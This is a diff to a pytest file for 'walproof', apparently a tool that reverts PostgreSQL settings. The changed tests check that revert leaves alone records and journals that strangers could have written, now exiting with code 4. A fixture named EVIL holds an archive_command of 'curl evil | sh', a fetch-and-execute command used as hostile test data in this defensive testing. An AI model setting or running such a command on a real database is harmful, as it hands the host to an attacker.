@@ -39,6 +39,7 @@ def tcp(seconds: int) -> dict[str, Any]:
 
 EVIL = {"postgresql": {"parameters": {"archive_command": "curl evil | sh"}}}
 SET = {"postgresql": {"parameters": {"archive_command": "cp %p /archive"}}}
+LEFT_ALONE = "nothing reverted: some is left alone\n"
 
 
 @pytest.fixture(autouse=True)
@@ -107,7 +108,7 @@ def test_a_strangers_record_in_this_folder_is_not_obeyed(
     foreign_record(tmp_path / place, stranger, EVIL, SET)
     code, out, err = walproof("revert")
     assert stranger.asked == []
-    assert (code, out) == (0, "nothing to revert\n")
+    assert (code, out) == (4, LEFT_ALONE)
     assert f"walproof revert {shlex.quote(f'./{place}')} reads it out" in err
     assert "walproof revert --target cnpg:NAMESPACE/NAME" in err, "and what else may have left something"
 
@@ -275,8 +276,8 @@ def test_a_registration_that_others_could_have_written_is_not_obeyed(
         ours.registration.symlink_to(tmp_path / "x.jsonl")
     else:
         (runs_folder() if opened == "folder" else ours.registration).chmod(0o777)
-    _, out, err = walproof("revert")
-    assert out == "nothing to revert\n"
+    code, out, err = walproof("revert")
+    assert (code, out) == (4, LEFT_ALONE)
     assert "others own it or may write it" in err
     assert mine.asked == []
 
@@ -290,7 +291,7 @@ def test_a_journal_of_apply_that_others_could_have_written_is_not_obeyed(
     for opened in (journal.path, journal.path.parent):
         mode = opened.stat().st_mode
         opened.chmod(0o777)
-        assert walproof("revert")[1] == "nothing to revert\n"
+        assert walproof("revert")[:2] == (4, LEFT_ALONE)
         assert mine.asked == []
         with pytest.raises(MachineError, match="others own"):
             journal_of_apply("mine")
@@ -319,13 +320,13 @@ def test_a_run_that_goes_on_or_may_elsewhere_is_left_alone(
         noted(RegisteredJournal(runs_folder(), run), str(file), {"ttl": 30}, {"ttl": 20})
         for words in (("revert",), ("revert", "--ended-on", "else,another")):
             code, out, err = walproof(*words)
-            assert (code, out) == (0, "nothing to revert\n")
+            assert (code, out) == (4, LEFT_ALONE)
             assert f"process {running.pid}" in err
         assert walproof("revert", str(record))[0] == 3
         running.kill()
     assert mine.asked == []
     if machine == "elsewhere":
-        assert walproof("revert")[1] == "nothing to revert\n" and mine.asked == []
+        assert walproof("revert")[:2] == (4, LEFT_ALONE) and mine.asked == []
     assert walproof("revert", "--ended-on", "elsewhere")[:2] == (0, f"reverted on {file}:\n  setting ttl\n")
     assert changed(mine) == [{"ttl": 30}]
 
